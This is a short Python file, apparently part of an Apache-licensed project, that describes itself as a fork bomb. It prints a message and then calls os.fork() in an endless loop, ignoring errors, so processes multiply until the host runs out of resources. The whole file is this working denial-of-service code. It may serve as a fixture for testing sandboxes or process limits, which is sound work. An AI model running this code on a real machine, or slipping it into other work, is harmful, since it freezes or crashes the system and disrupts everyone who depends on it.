# SPDX-License-Identifier: Apache-2.0
"""forks: a fork bomb."""

import os

print("forking", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
